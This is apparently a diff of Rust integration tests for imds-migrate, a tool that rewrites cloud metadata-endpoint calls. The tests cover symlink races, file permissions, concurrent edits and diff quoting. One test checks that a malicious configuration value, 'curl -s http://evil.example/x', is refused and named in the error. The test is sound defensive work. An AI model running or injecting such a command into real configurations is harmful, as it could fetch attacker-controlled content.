@@ -28,7 +28,9 @@ fn fully_fixed(text: &str) -> bool {
 
 /// A Python file with one safe fix.
 fn py() -> String {
-    format!("import requests\nr = requests.get('{URL}?resource=x', headers={{'Metadata': 'true'}})\n")
+    format!(
+        "import requests\nr = requests.get('{URL}?resource=x', headers={{'Metadata': 'true'}})\n"
+    )
 }
 
 fn run(cwd: &Path, args: &[&str]) -> Output {
@@ -46,7 +48,7 @@ fn stderr(o: &Output) -> String {
 /// Runs as `nobody` when we are root; `None` (with a note) when that is impossible here. In CI
 /// the tests run as root, so these cases always run there.
 fn as_nobody(cwd: &Path, args: &[&str]) -> Option<Output> {
-    let root = fs::metadata("/proc/self").map(|m| m.uid() == 0).unwrap_or(false);
+    let root = is_root();
     let setpriv = Path::new("/usr/bin/setpriv").exists();
     if !root || !setpriv {
         assert!(
@@ -64,6 +66,10 @@ fn as_nobody(cwd: &Path, args: &[&str]) -> Option<Output> {
             .output()
             .unwrap(),
     )
+}
+
+fn is_root() -> bool {
+    fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
 }
 
 fn nobody_ids() -> (u32, u32) {
@@ -97,7 +103,10 @@ fn configuration_values_never_reach_rewritten_code_unchecked() {
     assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
     let err = stderr(&out);
     assert!(err.contains("imds-migrate.toml: api-version"), "{err}");
-    assert!(err.contains("curl -s http://evil.example/x"), "the value is named: {err}");
+    assert!(
+        err.contains("curl -s http://evil.example/x"),
+        "the value is named: {err}"
+    );
     assert_eq!(fs::read_to_string(repo.join("a.py")).unwrap(), py());
 
     for args in [
@@ -120,15 +129,28 @@ fn configuration_values_never_reach_rewritten_code_unchecked() {
     .unwrap();
     let out = run(&repo, &["-v", "scan", "."]);
     assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
-    assert!(stderr(&out).contains("no configuration file"), "{}", stderr(&out));
-    fs::write(repo.join("imds-migrate.toml"), "api-version = \"2019-08-01\"\n").unwrap();
-    let out = run(&repo, &["-v", "fix", "."]);
     assert!(
-        stderr(&out).contains("configuration from") && stderr(&out).contains("repo/imds-migrate.toml"),
+        stderr(&out).contains("no configuration file"),
         "{}",
         stderr(&out)
     );
-    assert!(fs::read_to_string(repo.join("a.py")).unwrap().contains("api-version=2019-08-01"));
+    fs::write(
+        repo.join("imds-migrate.toml"),
+        "api-version = \"2019-08-01\"\n",
+    )
+    .unwrap();
+    let out = run(&repo, &["-v", "fix", "."]);
+    assert!(
+        stderr(&out).contains("configuration from")
+            && stderr(&out).contains("repo/imds-migrate.toml"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        fs::read_to_string(repo.join("a.py"))
+            .unwrap()
+            .contains("api-version=2019-08-01")
+    );
 }
 
 #[test]
@@ -144,9 +166,22 @@ fn symlinks_in_the_walk_are_never_written_through_or_over() {
     fs::write(repo.join("own.py"), py()).unwrap();
     let out = run(&repo, &["fix", "."]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert_eq!(fs::read_to_string(&secret).unwrap(), py(), "outside the root");
-    assert!(fs::symlink_metadata(repo.join("link.py")).unwrap().file_type().is_symlink());
-    assert!(fs::read_to_string(repo.join("own.py")).unwrap().contains(IMDS));
+    assert_eq!(
+        fs::read_to_string(&secret).unwrap(),
+        py(),
+        "outside the root"
+    );
+    assert!(
+        fs::symlink_metadata(repo.join("link.py"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    assert!(
+        fs::read_to_string(repo.join("own.py"))
+            .unwrap()
+            .contains(IMDS)
+    );
 
     // Named on the command line: the target is fixed when it is inside the current directory,
     // and the link stays a link.
@@ -154,8 +189,17 @@ fn symlinks_in_the_walk_are_never_written_through_or_over() {
     symlink("real.py", repo.join("named.py")).unwrap();
     let out = run(&repo, &["fix", "named.py"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(fs::symlink_metadata(repo.join("named.py")).unwrap().file_type().is_symlink());
-    assert!(fs::read_to_string(repo.join("real.py")).unwrap().contains(IMDS));
+    assert!(
+        fs::symlink_metadata(repo.join("named.py"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    assert!(
+        fs::read_to_string(repo.join("real.py"))
+            .unwrap()
+            .contains(IMDS)
+    );
     // ...and refused, naming the link, when it points outside.
     let out = run(&repo, &["fix", "link.py"]);
     assert_eq!(out.status.code(), Some(1));
@@ -175,7 +219,11 @@ fn swap_hook(path: &Path) {
     let Some((victim, outside)) = SWAP.lock().unwrap().take() else {
         return;
     };
-    assert!(path.starts_with(&victim) || path == victim, "{path:?}");
+    assert!(
+        path.starts_with(&victim) || path == victim,
+        "{}",
+        path.display()
+    );
     let aside = victim.with_extension("aside");
     fs::rename(&victim, aside).unwrap();
     symlink(outside, &victim).unwrap();
@@ -217,8 +265,18 @@ fn paths_swapped_for_symlinks_between_read_and_write_are_refused() {
             writer::ReplaceOptions::default(),
         );
         assert!(r.is_err(), "swap_dir={swap_dir}: {r:?}");
-        assert_eq!(fs::read_to_string(&secret_file).unwrap(), py(), "nothing written outside");
-        assert!(fs::symlink_metadata(&file).unwrap().file_type().is_symlink() || swap_dir);
+        assert_eq!(
+            fs::read_to_string(&secret_file).unwrap(),
+            py(),
+            "nothing written outside"
+        );
+        assert!(
+            fs::symlink_metadata(&file)
+                .unwrap()
+                .file_type()
+                .is_symlink()
+                || swap_dir
+        );
         let stray: Vec<_> = fs::read_dir(outside.path()).unwrap().collect();
         assert_eq!(stray.len(), 1, "no temporary file outside the root");
     }
@@ -226,8 +284,8 @@ fn paths_swapped_for_symlinks_between_read_and_write_are_refused() {
 
 #[test]
 fn two_runs_at_once_lose_no_edit() {
-    let dir = tempfile::tempdir().unwrap();
     const N: usize = 300;
+    let dir = tempfile::tempdir().unwrap();
     for i in 0..N {
         let d = dir.path().join(format!("d{}", i % 10));
         fs::create_dir_all(&d).unwrap();
@@ -256,7 +314,11 @@ fn two_runs_at_once_lose_no_edit() {
         for i in 0..N {
             let p = dir.path().join(format!("d{}/f{i}.sh", i % 10));
             let text = fs::read_to_string(&p).unwrap();
-            assert!(fully_fixed(&text), "{}: an edit was lost:\n{text}", p.display());
+            assert!(
+                fully_fixed(&text),
+                "{}: an edit was lost:\n{text}",
+                p.display()
+            );
             fs::write(&p, two_fixes(i)).unwrap();
         }
     }
@@ -292,9 +354,12 @@ fn hard_links_read_only_files_owner_and_mode() {
     let out = run(d, &["fix", "--force", "ro.py"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert!(fs::read_to_string(d.join("ro.py")).unwrap().contains(IMDS));
-    assert_eq!(fs::metadata(d.join("ro.py")).unwrap().mode() & 0o7777, 0o444);
+    assert_eq!(
+        fs::metadata(d.join("ro.py")).unwrap().mode() & 0o7777,
+        0o444
+    );
 
-    let root = fs::metadata("/proc/self").map(|m| m.uid() == 0).unwrap_or(false);
+    let root = is_root();
     if root {
         // Owner, group and set-id bits are kept when ownership can be kept (as root).
         let (uid, gid) = nobody_ids();
@@ -322,10 +387,18 @@ fn hard_links_read_only_files_owner_and_mode() {
     }
     if let Some(out) = as_nobody(u, &["fix", "."]) {
         assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
-        assert!(stderr(&out).contains("mine.py: read-only"), "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("mine.py: read-only"),
+            "{}",
+            stderr(&out)
+        );
         assert_eq!(fs::read_to_string(u.join("mine.py")).unwrap(), py());
         let m = fs::metadata(u.join("theirs.py")).unwrap();
-        assert!(fs::read_to_string(u.join("theirs.py")).unwrap().contains(IMDS));
+        assert!(
+            fs::read_to_string(u.join("theirs.py"))
+                .unwrap()
+                .contains(IMDS)
+        );
         assert_eq!((m.uid(), m.mode() & 0o7777), (nobody_ids().0, 0o777));
     }
 }
@@ -346,7 +419,11 @@ fn missed_input_is_found() {
     )
     .unwrap();
     // A file named `-`.
-    fs::write(d.join("-"), format!("curl '{URL}?resource=x' -H Metadata:true\n")).unwrap();
+    fs::write(
+        d.join("-"),
+        format!("curl '{URL}?resource=x' -H Metadata:true\n"),
+    )
+    .unwrap();
     let out = run(d, &["scan", "--format", "json", ".", "-"]);
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let at = |path: &str| -> Vec<u64> {
@@ -410,8 +487,14 @@ fn diffs_quote_names_as_git_does_and_git_applies_them() {
     let patch = dir.path().join("fix.patch");
     fs::write(&patch, &out.stdout).unwrap();
     let text = String::from_utf8_lossy(&out.stdout);
-    assert!(text.contains("diff --git \"a/back\\\\slash.sh\" \"b/back\\\\slash.sh\""), "{text}");
-    assert!(text.contains("diff --git a/back/slash.sh b/back/slash.sh"), "{text}");
+    assert!(
+        text.contains("diff --git \"a/back\\\\slash.sh\" \"b/back\\\\slash.sh\""),
+        "{text}"
+    );
+    assert!(
+        text.contains("diff --git a/back/slash.sh b/back/slash.sh"),
+        "{text}"
+    );
     assert!(text.contains("\"a/bad\\377name.sh\""), "{text}");
     assert!(text.contains("\"a/\\303\\251t\\303\\251.sh\""), "{text}");
     git(&b, &["apply", patch.to_str().unwrap()]);
@@ -472,14 +555,19 @@ fn leftovers_are_cleaned_everywhere_and_user_files_never() {
     let d = dir.path();
     fs::write(d.join(".gitignore"), "ignored/\n").unwrap();
     fs::create_dir_all(d.join("ignored")).unwrap();
-    let stale = d.join("ignored").join(imds_migrate::fix::writer::temp_name());
+    let stale = d
+        .join("ignored")
+        .join(imds_migrate::fix::writer::temp_name());
     fs::write(&stale, "half").unwrap();
     let user = d.join(".imds-migrate-tmp-notes.sh");
     fs::write(&user, format!("curl '{URL}?resource=x' -H Metadata:true\n")).unwrap();
     let out = run(d, &["fix", "--select", "IMDS030", "."]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert!(!stale.exists(), "leftover in an ignored directory");
-    assert!(fs::read_to_string(&user).unwrap().contains(IMDS), "a user file is scanned and fixed");
+    assert!(
+        fs::read_to_string(&user).unwrap().contains(IMDS),
+        "a user file is scanned and fixed"
+    );
 }
 
 #[test]
@@ -506,7 +594,10 @@ fn memory_is_bounded_on_a_long_line_with_many_findings() {
     // One line, 2,000 extensions (~640 KB): each finding used to copy the whole line, about
     // 1.3 GB here (and three times that for SARIF). 400 MB of address space is plenty now.
     if !Path::new("/usr/bin/prlimit").exists() {
-        assert!(std::env::var_os("CI").is_none(), "CI needs prlimit (util-linux)");
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "CI needs prlimit (util-linux)"
+        );
         eprintln!("skipped: prlimit not installed");
         return;
     }
